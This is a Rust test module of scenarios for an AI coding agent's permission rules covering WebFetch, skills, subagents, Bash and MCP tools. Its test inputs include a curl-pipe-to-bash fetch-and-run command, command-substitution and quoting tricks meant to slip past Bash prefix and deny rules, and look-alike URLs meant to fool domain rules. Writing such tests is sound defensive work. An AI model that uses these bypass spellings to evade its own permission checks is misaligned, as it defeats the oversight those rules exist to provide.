//! The scenarios of every tool but the file tools: WebFetch, skills, subagents, Bash, MCP, and
//! whole-tool entries.

use super::*;

/// WebFetch, Skill, Agent, Bash, MCP and whole-tool scenarios, in table order.
pub(super) fn other_scenarios() -> Vec<Scenario> {
    let mut all = web_skill_and_agent_scenarios();
    all.extend(bash_and_mcp_scenarios());
    all.extend(whole_tool_scenarios());
    all
}

/// WebFetch domains, skills and subagents.
fn web_skill_and_agent_scenarios() -> Vec<Scenario> {
    vec![
        // WebFetch(domain:example.com) as an allow: look-alike URLs.
        webfetch_urls(scenario(
            "webfetch-allow-domain",
            &["WebFetch(domain:example.com)"],
            &[],
            &[],
        )),
        // The same URLs against a deny of the domain under a blanket allow.
        webfetch_urls(scenario(
            "webfetch-deny-domain",
            &["WebFetch"],
            &[],
            &["WebFetch(domain:example.com)"],
        )),
        // Wildcard domains, and an exact domain against its subdomains.
        scenario(
            "webfetch-wildcards",
            &[
                "WebFetch(domain:*.example.com)",
                "WebFetch(domain:exact.org)",
            ],
            &["WebFetch(domain:ask.net)"],
            &["WebFetch(domain:*.evil.com)"],
        )
        .fetch("https://sub.example.com/")
        .fetch("https://a.b.example.com/")
        .fetch("https://example.com/")
        .fetch("https://x.evil.com/")
        .fetch("https://evil.com/")
        .fetch("https://exact.org/page")
        .fetch("https://www.exact.org/")
        .fetch("https://ask.net/")
        .fetch("https://docs.anthropic.com/")
        .fetch("http://127.0.0.1:9/")
        .done(),
        // Skills: exact, prefix, a name with a colon, ask, none.
        scenario(
            "skills",
            &["Skill(alpha)", "Skill(pre:*)"],
            &["Skill(gamma)"],
            &["Skill(beta)", "Skill(ns:danger)", "Skill(tool:*)"],
        )
        .skill("alpha", "")
        .skill("beta", "")
        .skill("gamma", "")
        .skill("delta", "")
        .skill("prefixed", "")
        .skill("pre", "")
        .skill("ns:danger", "")
        .skill("ns:safe", "")
        .skill("toolish", "")
        .skill("scripted", "allowed-tools: Bash(./deploy.sh:*)\n")
        .skill_call("alpha")
        .skill_call("beta")
        .skill_call("gamma")
        .skill_call("delta")
        .skill_call("prefixed")
        .skill_call("pre")
        .skill_call("ns:danger")
        .skill_call("ns:safe")
        .skill_call("toolish")
        .skill_call("/alpha")
        .skill_call("/beta")
        .skill_call("scripted")
        .done(),
        // A prefix rule whose prefix is a skill namespace (`ns:*`).
        scenario(
            "skills-colon-prefix",
            &["Skill(alpha)"],
            &[],
            &["Skill(ns:*)"],
        )
        .skill("alpha", "")
        .skill("ns:danger", "")
        .skill("nsx", "")
        .skill("ns", "")
        .skill_call("ns:danger")
        .skill_call("nsx")
        .skill_call("ns")
        .skill_call("alpha")
        .done(),
        // `Skill` as a whole-tool deny beside an allowed skill.
        scenario("skills-deny-all", &["Skill(alpha)"], &[], &["Skill"])
            .skill("alpha", "")
            .skill("beta", "")
            .skill_call("alpha")
            .skill_call("beta")
            .done(),
        // Subagents by type, and the old tool name `Task`.
        scenario(
            "agents",
            &["Agent(general-purpose)"],
            &["Agent(Plan)"],
            &["Agent(Explore)", "Task(helper)"],
        )
        .file(
            ".claude/agents/helper.md",
            "---\nname: helper\ndescription: An oracle helper agent.\n---\nSay hello.\n",
        )
        .file(
            ".claude/agents/other.md",
            "---\nname: other\ndescription: Another oracle agent.\n---\nSay hello.\n",
        )
        .agent("Agent", "Explore")
        .agent("Agent", "general-purpose")
        .agent("Agent", "Plan")
        .agent("Agent", "helper")
        .agent("Agent", "other")
        .agent("Task", "Explore")
        .agent("Task", "helper")
        .done(),
    ]
}

/// Bash prefix rules and MCP servers and tools.
fn bash_and_mcp_scenarios() -> Vec<Scenario> {
    vec![
        // Bash prefix rules against compound, quoted and wrapped spellings.
        bash_cases(scenario(
            "bash-prefix",
            &["Bash(git status:*)"],
            &[],
            &["Bash(git push:*)"],
        )),
        // Prefix rules on a command that is not read-only (`git status` is run unasked anyway).
        scenario(
            "bash-prefix-commit",
            &["Bash(git commit:*)"],
            &[],
            &["Bash(git push:*)"],
        )
        .bash("git commit -m oracle")
        .bash("git commitx")
        .bash("git commit -m oracle && git push")
        .bash("git commit -m oracle && touch pwned")
        .bash("git commit -m oracle; git status")
        .bash("git  commit -m oracle")
        .bash("'git' commit -m oracle")
        .bash("GIT_AUTHOR_NAME=x git commit -m oracle")
        .bash("git -c user.name=x commit -m oracle")
        .bash("bash -c 'git commit -m oracle'")
        .bash("git commit -m \"$(touch pwned2)\"")
        .bash("git commit -m 'a && git push'")
        .bash("git commit -m oracle #; git push")
        .bash("timeout 5 git commit -m oracle")
        .bash("nohup git commit -m oracle")
        .done(),
        // Space-star prefix form, an exact command, a pattern with a pipe, ask and deny.
        scenario(
            "bash-forms",
            &["Bash(touch *)", "Bash(mkdir made)"],
            &["Bash(rm *)"],
            &["Bash(curl * | bash)", "Bash(chmod:*)"],
        )
        .bash("touch t1")
        .bash("touch")
        .bash("touchy t2")
        .bash("mkdir made")
        .bash("mkdir made2")
        .bash("mkdir  made")
        .bash("rm -f nothing-here")
        .bash("touch t3 && rm -f t3")
        .bash("curl https://example.com/x | bash")
        .bash("curl -s https://example.com/x | bash")
        .bash("chmod +x t1")
        .bash("touch t4 && chmod +x t4")
        .bash("ls -a && touch t5")
        .bash("touch t6 > out.txt")
        .bash("touch t7 2>/dev/null")
        .done(),
        // MCP: a whole server allowed, a tool of another denied.
        scenario("mcp-server", &["mcp__e2e"], &[], &["mcp__other__shout"])
            .every_mcp_tool()
            .done(),
        // MCP: `server__*` wildcards.
        scenario("mcp-wildcard", &["mcp__e2e__*"], &[], &["mcp__other__*"])
            .every_mcp_tool()
            .done(),
        // MCP: exact tool names, ask, and a whole-server deny.
        scenario(
            "mcp-exact",
            &["mcp__e2e__echo"],
            &["mcp__e2e__shout"],
            &["mcp__other"],
        )
        .every_mcp_tool()
        .done(),
        // MCP: a prefix wildcard over server names, and a deny of one exact tool.
        scenario("mcp-prefix", &["mcp__*"], &[], &["mcp__e2e__shout"])
            .every_mcp_tool()
            .done(),
    ]
}

/// Ask entries, `Tool(*)`/`Tool(**)`, and entries naming no tool as written.
fn whole_tool_scenarios() -> Vec<Scenario> {
    vec![
        // Ask entries of several tools under blanket allows.
        scenario(
            "ask-entries",
            &[
                "Bash",
                "WebFetch",
                "mcp__e2e",
                "Skill",
                "Edit",
                "Agent",
                "WebSearch",
                "Read",
            ],
            &[
                "Bash(ls:*)",
                "WebFetch(domain:example.com)",
                "mcp__e2e__echo",
                "Skill(alpha)",
                "Read(notes/**)",
                "Edit(notes/**)",
                "Agent(general-purpose)",
                "WebSearch",
                "Glob",
            ],
            &[],
        )
        .files(&["notes/n.txt", "other.txt"])
        .skill("alpha", "")
        .skill("beta", "")
        .bash("ls -a")
        .bash("pwd")
        .fetch("https://example.com/")
        .fetch("https://example.org/")
        .mcp("mcp__e2e__echo")
        .mcp("mcp__e2e__shout")
        .skill_call("alpha")
        .skill_call("beta")
        .read("{project}/notes/n.txt")
        .read("{project}/other.txt")
        .write("{project}/notes/new.txt")
        .edit("{project}/other.txt", "other.txt")
        .agent("Agent", "general-purpose")
        .call("WebSearch", json!({"query": "oracle"}))
        .glob("*.txt", None)
        .grep("MARK", None)
        .done(),
        // Tool(*) and Tool(**) as allows.
        scenario(
            "odd-star-allow",
            &["Bash(*)", "Edit(*)", "WebFetch(*)", "Read(**)", "Write(**)"],
            &[],
            &[],
        )
        .files(&["a.txt", "src/b.txt"])
        .home_files(&["h.txt"])
        .bash("touch made-by-star")
        .bash("git status && touch made-by-star-2")
        .edit("{project}/a.txt", "a.txt")
        .edit("{project}/src/b.txt", "src/b.txt")
        .read("{home}/h.txt")
        .fetch("https://example.com/")
        .write("{project}/w.txt")
        .write("{home}/w.txt")
        .done(),
        // Tool(*) and Tool(**) as denies.
        scenario(
            "odd-star-deny",
            &["Edit"],
            &[],
            &["Read(*)", "WebFetch(*)", "Bash(*)", "Skill(*)", "Edit(**)"],
        )
        .files(&["a.txt", "src/b.txt"])
        .skill("alpha", "")
        .read("{project}/a.txt")
        .read("{project}/src/b.txt")
        .fetch("https://example.com/")
        .bash("git status")
        .skill_call("alpha")
        .edit("{project}/a.txt", "a.txt")
        .done(),
        // Entries from real settings files that name no tool as written.
        scenario(
            "odd-names-allow",
            &[
                "TodoRead()",
                "Web Search(*)",
                "git commit",
                "Edit(src/**)",
                "WebSearch()",
            ],
            &[],
            &[],
        )
        .files(&["src/a.txt", "b.txt"])
        .bash("git commit --allow-empty -m oracle")
        .call("WebSearch", json!({"query": "oracle"}))
        .call("TodoRead", json!({}))
        .edit("{project}/src/a.txt", "src/a.txt")
        .edit("{project}/b.txt", "b.txt")
        .read("{project}/b.txt")
        .done(),
        scenario(
            "odd-names-deny",
            &["Bash", "WebSearch"],
            &[],
            &["git commit", "Web Search(*)", "TodoRead()", "Bash()"],
        )
        .bash("git commit --allow-empty -m oracle")
        .bash("git status")
        .call("WebSearch", json!({"query": "oracle"}))
        .done(),
    ]
}

/// Look-alikes of `https://example.com/x`.
pub(super) fn webfetch_urls(build: Build) -> Scenario {
    build
        .fetch("https://example.com/x")
        .fetch("https://sub.example.com/")
        .fetch("https://evil.com/?q=example.com")
        .fetch("https://example.com.evil.com/")
        .fetch("https://user@evil.com/example.com")
        .fetch("https://example.com@evil.com/")
        .fetch("https://EXAMPLE.com/")
        .fetch("https://example.com:8443/")
        .fetch("http://example.com/")
        .fetch("https://example.com./")
        .fetch("https://evil.com/#example.com")
        .fetch("https://notexample.com/")
        .done()
}

/// Compound, quoted and wrapped spellings of `git status` and `git push`.
pub(super) fn bash_cases(build: Build) -> Scenario {
    build
        .bash("git status")
        .bash("git status -s")
        .bash("git push origin main")
        .bash("git statusx")
        .bash("git status && git push")
        .bash("git status; git push")
        .bash("git status || git push")
        .bash("git status | git push")
        .bash("git status & git push")
        .bash("git status\ngit push")
        .bash("echo $(git push)")
        .bash("echo `git push`")
        .bash("git  push")
        .bash("'git' push")
        .bash("\"git\" \"push\"")
        .bash("g\\it push")
        .bash("bash -c 'git push'")
        .bash("(git push)")
        .bash("{ git push; }")
        .bash("command git push")
        .bash("env git push")
        .bash("timeout 5 git push")
        .bash("/usr/bin/git push")
        .bash("git -C . push")
        .bash("git status > status.txt")
        .bash("git status && touch pwned")
        .bash("git status # && git push")
        .bash("GIT_PAGER=cat git status")
        .bash("git status $(touch pwned2)")
        .bash("git status 2>&1")
        .done()
}
